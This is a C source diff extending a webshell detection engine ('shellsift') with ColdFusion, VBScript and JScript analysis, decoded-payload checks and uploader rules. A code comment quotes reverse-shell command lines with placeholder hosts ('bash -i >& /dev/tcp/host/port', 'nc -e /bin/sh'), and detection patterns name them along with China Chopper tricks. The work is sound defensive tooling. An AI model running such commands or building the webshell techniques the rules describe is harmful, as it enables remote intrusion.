@@ -25,6 +25,7 @@ double lang_now(void) {
 
 static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix,
                      unsigned line);
+static void embedded_pages(lang_ctx *c);
 
 static void add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                    const char *fmt, ...) {
@@ -91,11 +92,13 @@ static const token *assign_target(const lang_ctx *c, size_t eq) {
         t = k - 1;
         break;
       }
-  if (is_op(c, t, "]")) {
+  int vb_index = c->syn == SYN_VB && is_op(c, t, ")");
+  if (is_op(c, t, "]") || vb_index) {
+    const char *close = vb_index ? ")" : "]", *open = vb_index ? "(" : "[";
     int depth = 0;
     for (;; t--) {
-      if (is_op(c, t, "]")) depth++;
-      else if (is_op(c, t, "[") && --depth == 0) break;
+      if (is_op(c, t, close)) depth++;
+      else if (is_op(c, t, open) && --depth == 0) break;
       if (t == 0) return NULL;
     }
     if (t == 0) return NULL;
@@ -138,10 +141,16 @@ static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
   if (d && d->kind == N_SINK && d->id == SK_CREATE) {
     if (strstr(d->name, "getenginebyname")) return snprintf(out, outsz, "scriptengine"), 1;
     if (i + 2 < c->nst && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR) {
-      const char *v = tok_text(c, &c->st[i + 2]);
+      size_t at = i + 2;
+      /* CFML createObject("java", "java.lang.Runtime"): the class is the second */
+      if (is_op(c, i + 3, ",") && i + 4 < c->nst && c->st[i + 4].kind == TK_STR) at = i + 4;
+      const char *v = tok_text(c, &c->st[at]);
       size_t n = 0;
       for (; v[n] && n + 1 < outsz; n++) out[n] = (char)(v[n] >= 'A' && v[n] <= 'Z' ? v[n] + 32 : v[n]);
       out[n] = '\0';
+      /* a versioned ProgID names the same class: MSScriptControl.ScriptControl.1 */
+      while (n > 2 && out[n - 1] >= '0' && out[n - 1] <= '9') n--;
+      if (n > 2 && n < strlen(out) && out[n - 1] == '.') out[n - 1] = '\0';
       return 1;
     }
     return 0;
@@ -171,7 +180,8 @@ static void chain_note(const taint *t, char *out, size_t outsz) {
 }
 
 static int under_web_root(const lang_ctx *c, size_t a, size_t b) {
-  static const char *const marks[] = {"getrealpath", "mappath", "__dir__", "__file__", "document_root"};
+  static const char *const marks[] = {"getrealpath", "mappath", "__dir__", "__file__", "document_root",
+                                      "expandpath", "getcurrenttemplatepath", "getbasetemplatepath"};
   for (size_t i = a; i < b; i++) {
     const token *t = &c->st[i];
     if (t->kind != TK_IDENT && t->kind != TK_STR) continue;
@@ -189,7 +199,7 @@ static int under_web_root(const lang_ctx *c, size_t a, size_t b) {
 }
 
 static int has_script_ext(const lang_ctx *c, size_t a, size_t b) {
-  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx"};
+  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx", ".cfm", ".cfc"};
   for (size_t i = a; i < b; i++) {
     if (c->st[i].kind != TK_STR) continue;
     const char *s = tok_text(c, &c->st[i]);
@@ -197,6 +207,111 @@ static int has_script_ext(const lang_ctx *c, size_t a, size_t b) {
       if (strstr(s, exts[k])) return 1;
   }
   return 0;
+}
+
+/* Execute(UnEncode(hu)) with hu a constant: a function of this page, not
+ * a built-in, turns constants into the code run; *name gets its name. */
+static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, size_t namesz) {
+  /* one call, or calls joined by concatenation: d(6) & d(10) & ... */
+  const token *f = &c->st[a];
+  int strings = 0, calls = 0;
+  for (size_t i = a; i < b;) {
+    const token *g = &c->st[i];
+    if (g->kind != TK_IDENT || !is_op(c, i + 1, "(") || strchr(tok_text(c, g), '.')) return 0;
+    const name_def *d = lang_names_lookup(tok_text(c, g), g->len, c->syn);
+    size_t close = lang_match_close(c, i + 1);
+    if (close >= b || close < i + 3) return 0;
+    if (d && d->kind == N_DECODER) { /* Execute(Unescape(x)) of a value built at run time */
+      strings++;
+    } else if (d || g->len != f->len || memcmp(tok_text(c, g), tok_text(c, f), f->len) != 0) {
+      return 0;
+    } else {
+      for (size_t k = i + 2; k < close; k++) {
+        const token *t = &c->st[k];
+        if (t->kind == TK_STR) strings += t->len >= 16;
+        else if (t->kind != TK_NUM && !is_op(c, k, ",")) return 0;
+      }
+    }
+    calls++;
+    i = close + 1;
+    if (i < b && !(is_op(c, i, "&") || is_op(c, i, "+"))) return 0;
+    if (i < b) i++;
+  }
+  if (!strings && calls < 4) return 0; /* short numeric arguments: a lookup, unless many are joined */
+  snprintf(name, namesz, "%.60s", tok_text(c, f));
+  return 1;
+}
+
+/* A constant command line that hands a shell to a remote host:
+ * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
+static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
+  for (size_t i = a; i < b; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR) continue;
+    const char *s = tok_text(c, t);
+    if (memmem(s, t->len, "/dev/tcp/", 9) || memmem(s, t->len, "/dev/udp/", 9) ||
+        ((memmem(s, t->len, "nc ", 3) || memmem(s, t->len, "ncat ", 5)) &&
+         (memmem(s, t->len, " -e /bin/", 9) || memmem(s, t->len, " -e cmd", 7))))
+      return 1;
+  }
+  return 0;
+}
+
+/* new FileStream(path, FileMode.Create): a stream opened to write. */
+static int opens_for_writing(const lang_ctx *c, size_t a, size_t b) {
+  static const char *const modes[] = {"filemode.create", "filemode.createnew", "filemode.append",
+                                      "filemode.openorcreate", "filemode.truncate", "fileaccess.write"};
+  for (size_t i = a; i < b; i++) {
+    if (c->st[i].kind != TK_IDENT) continue;
+    const char *s = tok_text(c, &c->st[i]);
+    for (size_t k = 0; k < sizeof modes / sizeof modes[0]; k++) {
+      size_t m = strlen(modes[k]);
+      if (c->st[i].len >= m && strcmp(s + c->st[i].len - m, modes[k]) == 0) return 1;
+    }
+  }
+  return 0;
+}
+
+/* The value of attribute cfattr.<name> in a CFML tag call st[a, b). */
+static int cf_attr(const lang_ctx *c, size_t a, size_t b, const char *name, size_t *s, size_t *e) {
+  char want[48];
+  snprintf(want, sizeof want, "cfattr.%s", name);
+  for (unsigned k = 1; arg_span(c, a, b, k, s, e); k++)
+    if (*e > *s + 2 && tok_is(c, &c->st[*s], TK_IDENT, want) && is_op(c, *s + 1, "=")) {
+      *s += 2;
+      return 1;
+    }
+  return 0;
+}
+
+/* <cffile action="write|upload|copy|move">: the path is an attribute.  An
+ * upload keeps the client's file name unless told otherwise, so one
+ * stored under the web root with no accept= list of types is an
+ * uploader.  Returns 1 when the tag was a CFML one (checked here). */
+static int cf_tag_write(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
+  size_t s, e, vs, ve;
+  taint t = {0};
+  if (strcmp(d->name, "cffile.upload") == 0) {
+    if (!cf_attr(c, a, b, "destination", &s, &e)) return 1;
+    int accept = cf_attr(c, a, b, "accept", &vs, &ve) && ve == vs + 1 && c->st[vs].kind == TK_STR &&
+                 !strstr(tok_text(c, &c->st[vs]), "*");
+    if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
+      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "request input %s chooses where <cffile action=\"upload\"> stores a file (line %u)", t.src, line);
+    else if (!accept && under_web_root(c, s, e))
+      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "<cffile action=\"upload\"> stores any file the client sends, under its own name, in the web "
+                    "root (line %u)", line);
+    return 1;
+  }
+  if (!cf_attr(c, a, b, strcmp(d->name, "cffile.write") == 0 ? "file" : "destination", &s, &e)) return 1;
+  if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED) && ((t.flags & TA_PURE) || under_web_root(c, s, e)))
+    add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                  "request input %s chooses the path %s writes (line %u)", t.src, d->display, line);
+  else if (has_script_ext(c, s, e) && cf_attr(c, a, b, "output", &vs, &ve) && lang_span_taint(c, vs, ve, &t))
+    add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                  "request input %s is written by %s to a script file (line %u)", t.src, d->display, line);
+  return 1;
 }
 
 /* A dangerous call d (shown as display) at line with arguments st[a, b). */
@@ -233,12 +348,34 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
       if (c->res->ndet == before)
         add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                       "%s runs code hidden by %s (line %u)", display, chain, line);
+    } else if (d->id == SK_CODE && c->syn != SYN_PHP && b > a && c->st[a].kind == TK_STR &&
+               !(c->st[a].flags & (TF_INTERP | TF_BINARY)) && (b == a + 1 || is_op(c, a + 1, ",")) &&
+               c->st[a].len >= 8) {
+      /* Execute "eval(request(""x""))": the string is code; read it */
+      char prefix[160];
+      snprintf(prefix, sizeof prefix, "code in a string run by %s (line %u): ", display, line);
+      analyze_payload(c, tok_text(c, &c->st[a]), c->st[a].len, c->syn, prefix, line);
     } else if (b > a && c->st[a].kind != TK_STR) {
       c->want_repass = 1;
+      if (c->syn == SYN_JSCRIPT && d->id == SK_CODE && arg_span(c, a, b, 2, &s, &e) && e == s + 1 &&
+          c->st[s].kind == TK_STR && strncmp(tok_text(c, &c->st[s]), "unsafe", 6) == 0)
+        add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
+                      "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
+                      line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && runtime_decoded(c, a, b, note, sizeof note))
+        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
+                      "%s runs code that %s() builds at run time from a constant (line %u)", display, note, line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !c->dyn_line)
+        c->dyn_line = line, c->dyn_display = d->display;
     }
     break;
   case SK_CMD:
     if (d->arg && arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
+    if (c->syn != SYN_PHP && reverse_shell(c, a, b)) {
+      add_detection(c, "shellsift.lang.command-exec", "webshell", 80, line,
+                    "%s starts a reverse shell: the command sends a shell to a remote host (line %u)", display, line);
+      break;
+    }
     if (lang_span_taint(c, a, b, &t)) {
       chain_note(&t, note, sizeof note);
       add_detection(c, "shellsift.lang.command-exec", "webshell", strength(&t), line,
@@ -277,7 +414,10 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
                     "request input %s chooses the file %s loads (line %u)", t.src, display, line);
     break;
   case SK_WRITE:
-    if (!arg_span(c, a, b, d->arg, &s, &e)) break;
+    if (c->syn == SYN_CFML && cf_tag_write(c, d, line, a, b)) break;
+    if (d->arg == 0) s = a, e = b; /* the object is the path: fi.CreateText() */
+    else if (!arg_span(c, a, b, d->arg, &s, &e)) break;
+    if (strcmp(d->name, "filestream") == 0 && !opens_for_writing(c, a, b)) break;
     /* the whole path, the client's own name for the uploaded file, or a
      * request-chosen name under the web root */
     if (lang_span_taint(c, s, e, &t) && !(t.flags & (TA_CALLED | TA_TMPNAME)) &&
@@ -287,13 +427,24 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
     else if (has_script_ext(c, s, e) && (lang_span_taint(c, a, s, &t) || lang_span_taint(c, e, b, &t)))
       add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                     "request input %s is written by %s to a script file (line %u)", t.src, display, line);
+    else if (has_script_ext(c, s, e) && (c->caps.seen & CAP_FETCH))
+      add_detection(c, "shellsift.lang.uploader", "uploader", 60, line,
+                    "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)", display,
+                    c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)], line);
     break;
   case SK_SOCKET: /* IPAddress.Parse(...) is still the request's address: no TA_CALLED test */
+    if (strcmp(d->display, "java.net.URL") == 0) { /* a fetch, not a socket: an open proxy or a flooder */
+      if (lang_span_taint(c, a, b, &t) && (t.flags & TA_PURE))
+        add_detection(c, "shellsift.lang.tunnel", "tunnel", 55, line,
+                      "request input %s chooses the URL the server fetches with %s (line %u)", t.src, display, line);
+      break;
+    }
     if (lang_span_taint(c, a, b, &t))
       add_detection(c, "shellsift.lang.tunnel", "tunnel", t.flags & TA_CALLED ? 60 : 70, line,
                     "request input %s chooses where %s connects (line %u)", t.src, display, line);
     break;
   case SK_SQL:
+    if (c->syn == SYN_CFML && cf_attr(c, a, b, "sql", &s, &e)) a = s, b = e; /* <cfquery>: its body */
     for (unsigned k = 1; arg_span(c, a, b, k, &s, &e); k++)
       if (lang_span_taint(c, s, e, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED)) {
         add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
@@ -375,7 +526,9 @@ static int is_keyword_before_call(const lang_ctx *c, const token *p) {
 }
 
 static void note_wrapper_sink(lang_ctx *c, const name_def *d) {
-  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD) && !c->wrappers[c->fn - 1].sink)
+  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD ||
+                ((d->id == SK_SQL || d->id == SK_SOCKET) && c->syn != SYN_PHP)) &&
+      !c->wrappers[c->fn - 1].sink)
     c->wrappers[c->fn - 1].sink = d;
 }
 
@@ -392,6 +545,9 @@ static void find_sinks(lang_ctx *c) {
       continue;
     }
     if (t->kind == TK_OP && c->fn && tok_is(c, t, TK_OP, "^")) c->wrappers[c->fn - 1].xor = 1;
+    if (c->syn == SYN_JSCRIPT && !paren && !c->alias_line && tok_is(c, t, TK_IDENT, "eval") &&
+        !(i > 0 && (is_op(c, i - 1, ".") || tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
+      c->alias_line = t->line; /* {'E': eval}, return eval: called later under another name */
     if (c->syn == SYN_PHP && paren && (t->kind == TK_VAR || is_op(c, i, "]")) &&
         !(i > 0 && (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->")))) {
       /* $f(...) or $_GET['a'](...): the callee is a variable */
@@ -459,6 +615,7 @@ static void find_sinks(lang_ctx *c) {
         if (!set && c->saw_psi && (tok_is(c, t, TK_IDENT, "filename") || tok_is(c, t, TK_IDENT, "arguments")))
           set = lang_names_lookup("processstartinfo.arguments", 26, c->syn);
         if (set && set->kind == N_SINK && set->id == SK_CMD) {
+          note_wrapper_sink(c, set);
           size_t s, e;
           arg_span(c, i + 2, c->nst, 1, &s, &e);
           snprintf(display, sizeof display, "%s", set->display);
@@ -470,6 +627,7 @@ static void find_sinks(lang_ctx *c) {
       if (!paren && c->syn == SYN_PHP && !(d && d->id == SK_INCLUDE)) continue;
     }
     if (!d || d->kind != N_SINK || d->id == SK_CREATE) continue;
+    if (d->id == SK_WRITE && d->arg == 0) a = i, b = i + 1; /* the path is the object: fi.CreateText() */
     note_wrapper_sink(c, d);
     if (b > c->nst) b = c->nst;
     if (b > 0 && b == c->nst && is_op(c, b - 1, "{")) b--;
@@ -536,6 +694,37 @@ static void record_define(lang_ctx *c) {
     }
 }
 
+/* [WebMethod] string Run(string cmd) (C#), WebMethodAttribute function
+ * Run(cmd : String) (JScript.NET): a web service method's parameters are
+ * what the SOAP or JSON request sent. */
+static void webmethod_params(lang_ctx *c, size_t name) {
+  int web = 0;
+  for (size_t i = 0; i < name && !web; i++)
+    web = c->st[i].kind == TK_IDENT && (tok_is(c, &c->st[i], TK_IDENT, "webmethod") ||
+                                        tok_is(c, &c->st[i], TK_IDENT, "webmethodattribute"));
+  if (!web || !is_op(c, name + 1, "(")) return;
+  size_t close = lang_match_close(c, name + 1);
+  for (size_t i = name + 2, last = 0; i <= close && i < c->nst; i++) {
+    if (c->st[i].kind == TK_IDENT) {
+      if (!last || !is_op(c, last + 1, ":")) last = i; /* JScript: the name before ':' */
+      continue;
+    }
+    if (!(is_op(c, i, ",") || i == close) || !last) continue;
+    const token *p = &c->st[last];
+    sym *sy = lang_sym_get(c, tok_text(c, p), p->len, 1);
+    if (sy) {
+      memset(&sy->t, 0, sizeof sy->t);
+      snprintf(sy->t.src, sizeof sy->t.src, "the web method parameter %.40s", tok_text(c, p));
+      sy->t.flags = TA_PURE;
+      sy->t.line = p->line;
+      sy->has_taint = 1;
+      sy->has_const = 0;
+      if (!c->caps.request) c->caps.request = p->line;
+    }
+    last = 0;
+  }
+}
+
 /* Function definitions: remembered so a call to one that wraps a sink or
  * an XOR loop counts as that sink or a decryption. */
 static void end_function(lang_ctx *c) {
@@ -581,6 +770,7 @@ static void track_functions(lang_ctx *c) {
     }
   }
   if (!name) return;
+  webmethod_params(c, (size_t)(name - c->st));
   c->in_fn = 1;
   c->fn_depth = c->depth;
   if (c->syn == SYN_PHP) c->scope = ++c->scopes;
@@ -604,6 +794,8 @@ static void process(lang_ctx *c) {
   lang_fold_statement(c, eq < c->nst ? eq + 1 : 0);
   if (eq < c->nst) eq = find_assign(c); /* folding never moves it, but be sure */
   find_sinks(c);
+  embedded_pages(c);
+  lang_caps_statement(c);
   record_assignment(c, eq);
   record_define(c);
   track_functions(c);
@@ -638,13 +830,25 @@ static int join(lang_ctx *c, const token *t) {
 static void on_token(tok_sink *s, token *t) {
   lang_ctx *c = (lang_ctx *)s;
   if ((int)c->syn != s->syn) {
+    /* the statement before is in the other language; ending it empties
+     * the text arena, which already holds this token's text */
+    char *keep = xmalloc(t->len + 1u);
+    memcpy(keep, s->text.buf + t->off, t->len);
     process(c);
     c->syn = (syntax)s->syn;
+    t->off = lang_arena_put(&s->text, keep, t->len);
+    free(keep);
   }
   const char *text = s->text.buf + t->off;
   if ((t->kind == TK_STR || t->kind == TK_IDENT) && t->len > c->longest) c->longest = t->len;
   if (t->kind == TK_STR && t->len >= 64 && lang_stats_is_blob(text, t->len)) c->blob_bytes += t->len;
   if (t->kind == TK_END) {
+    process(c);
+    return;
+  }
+  if (c->syn == SYN_VB && t->kind == TK_IDENT && c->nst && tok_is(c, t, TK_IDENT, "then") &&
+      (tok_is(c, &c->st[0], TK_IDENT, "if") || tok_is(c, &c->st[0], TK_IDENT, "elseif"))) {
+    /* If cond Then stmt on one line: what follows Then is a statement */
     process(c);
     return;
   }
@@ -688,7 +892,8 @@ void lang_ctx_free(lang_ctx *c) {
 
 int lang_wanted(const char *filetype) {
   return filetype && (strcmp(filetype, "PHP") == 0 || strcmp(filetype, "ASP") == 0 ||
-                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0);
+                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0 ||
+                      strcmp(filetype, "CFM") == 0);
 }
 
 static void reset_file(lang_ctx *c) {
@@ -701,6 +906,9 @@ static void reset_file(lang_ctx *c) {
   c->want_repass = c->saw_psi = 0;
   c->statements = 0;
   c->longest = c->blob_bytes = c->builders = 0;
+  memset(&c->caps, 0, sizeof c->caps);
+  c->dyn_line = c->alias_line = 0;
+  c->dyn_display = NULL;
 }
 
 static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw,
@@ -712,6 +920,7 @@ static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char
   c->syn = syn;
   c->sink.syn = (int)syn;
   if (syn == SYN_PHP) lang_lex_php(&c->sink, buf, len, raw);
+  else if (syn == SYN_CFML) lang_lex_cfml(&c->sink, buf, len, raw);
   else if (raw && syn == SYN_VB) lang_lex_vb(&c->sink, buf, len, 0, 1);
   else if (raw) lang_lex_clike(&c->sink, buf, len, syn, 0, 1);
   else lang_lex_page(&c->sink, buf, len, filetype);
@@ -734,7 +943,10 @@ static void run(lang_ctx *c, const unsigned char *buf, size_t len, const char *f
   }
 }
 
-static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
+/* Code found inside the file (a decoded payload, or with page set, a whole
+ * server page kept in a string) analysed one level deeper. */
+static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
+                         unsigned line) {
   if (c->level + 1 >= c->lim.max_depth) {
     c->budget->exhausted = 1;
     if (!c->budget->why) c->budget->why = "decode depth limit";
@@ -750,11 +962,69 @@ static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn,
   k->level = c->level + 1;
   k->prefix = full;
   k->outer_line = c->level ? c->outer_line : line;
-  run(k, copy, n, NULL, 1, syn);
+  run(k, copy, n, page, page == NULL, syn);
   c->builders += k->builders;
+  lang_caps_merge(&c->caps, &k->caps);
   free(copy);
   free(full);
   lang_ctx_free(k);
+}
+
+static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
+  analyze_code(c, code, n, syn, NULL, prefix, line);
+}
+
+/* Request.Item[, request.getParameter(, Request.Form( at the start of a
+ * decoded literal: code, not data. */
+static int hides_request(const char *s, size_t n) {
+  if (n < 10 || n > 256 || strncasecmp(s, "request", 7) != 0) return 0;
+  return s[7] == '[' || s[7] == '(' || (s[7] == '.' && n > 9);
+}
+
+/* A JSP or ASP page kept in a string literal (a dropper writes it out
+ * later): read it as the page it is. */
+static void embedded_pages(lang_ctx *c) {
+  static const char *const kinds[] = {[SYN_JAVA] = "JSP", [SYN_CSHARP] = "ASPX", [SYN_VB] = "ASP",
+                                      [SYN_JSCRIPT] = "ASP"};
+  if (c->level || c->syn == SYN_PHP || c->syn == SYN_CFML) return;
+  for (size_t i = 0; i < c->nst; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR || (t->flags & TF_BINARY)) continue;
+    const char *s = tok_text(c, t);
+    if (t->nchain && hides_request(s, t->len)) {
+      char chain[96], quote[40];
+      lang_chain_text(t->chain, t->nchain, NULL, chain, sizeof chain);
+      snprintf(quote, sizeof quote, "%.*s", (int)(t->len < 32 ? t->len : 32), s);
+      for (char *q = quote; *q; q++) *q = (*q < 0x20 || *q == 0x7f) ? '.' : *q;
+      add_detection(c, "shellsift.lang.decoded-payload", "webshell", 60, t->line,
+                    "a literal decoded by %s hides code that reads the request (\"%s\") (line %u)", chain, quote,
+                    t->line);
+      continue;
+    }
+    if (t->len < 24 || !memmem(s, t->len, "<%", 2) || !(memmem(s, t->len, "equest", 6))) continue;
+    char prefix[96];
+    snprintf(prefix, sizeof prefix, "a server page kept in a string (line %u): ", t->line);
+    analyze_code(c, s, t->len, c->syn, kinds[c->syn], prefix, t->line);
+  }
+}
+
+/* What only the whole page shows: code run from a value built at run
+ * time in a page that fetches code over HTTP or carries a long encoded
+ * literal, and eval passed around as a value in a page reading requests. */
+static void page_verdicts(lang_ctx *c) {
+  int others = c->res->ndet > 0;
+  if (c->dyn_line && !others && (c->caps.seen & CAP_FETCH))
+    add_detection(c, "shellsift.lang.decoded-payload", "webshell", 65, c->dyn_line,
+                  "%s runs code built at run time (line %u) in a page that fetches content over HTTP (%s, line %u)",
+                  c->dyn_display, c->dyn_line, c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)]);
+  else if (c->dyn_line && !others && c->longest >= 1024)
+    add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, c->dyn_line,
+                  "%s runs code built at run time (line %u) in a page carrying a %zu-byte literal", c->dyn_display,
+                  c->dyn_line, c->longest);
+  if (c->alias_line && c->caps.request && !others)
+    add_detection(c, "shellsift.lang.code-exec", "webshell", 65, c->alias_line,
+                  "eval is taken as a value (line %u) and called under another name in a page that reads request "
+                  "input (line %u)", c->alias_line, c->caps.request);
 }
 
 void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, lang_result *out) {
@@ -766,17 +1036,35 @@ void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char 
   c->res = out;
   c->level = 0;
   c->prefix = NULL;
-  if (lang_wanted(filetype) && lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0)) {
+  /* an ASP page IIS decodes before running it is read decoded too */
+  unsigned char *unpacked = NULL;
+  size_t unpacked_len = 0;
+  if (filetype && (strcmp(filetype, "ASP") == 0 || strcmp(filetype, "ASPX") == 0) &&
+      lang_asp_unpack(buf, len, &unpacked, &unpacked_len))
+    buf = unpacked, len = unpacked_len;
+  /* an ASP.NET page saved as .asp still has its server controls */
+  int controls = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0) &&
+                 lang_aspx_controls(c, buf, len);
+  if (controls) c->caps.request = 1;
+  int cfml = filetype && strcmp(filetype, "CFM") == 0; /* rare enough to read whole */
+  if (lang_wanted(filetype) && (controls || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0))) {
     int php = strcmp(filetype, "PHP") == 0;
-    run(c, buf, len, filetype, 0, php ? SYN_PHP : strcmp(filetype, "ASP") == 0 ? SYN_VB
+    run(c, buf, len, filetype, 0, php ? SYN_PHP : cfml ? SYN_CFML : strcmp(filetype, "ASP") == 0 ? SYN_VB
                                                 : strcmp(filetype, "JSP") == 0 ? SYN_JAVA : SYN_CSHARP);
   }
+  page_verdicts(c);
+  char kit[LANG_DESC_MAX];
+  unsigned kit_line;
+  int kit_score = lang_caps_verdict(&c->caps, kit, sizeof kit, &kit_line);
+  if (kit_score) add_detection(c, "shellsift.lang.kit", "webshell", kit_score, kit_line, "%s", kit);
   if (budget.exhausted) {
     out->limited = 1;
     snprintf(out->limit_why, sizeof out->limit_why, "%s", budget.why ? budget.why : "limit");
   }
   c->budget = NULL;
   c->res = NULL;
+  c->buf = NULL;
+  free(unpacked);
 }
 
 void lang_get_stats(const lang_ctx *c, const unsigned char *buf, size_t len, lang_stats *st) {
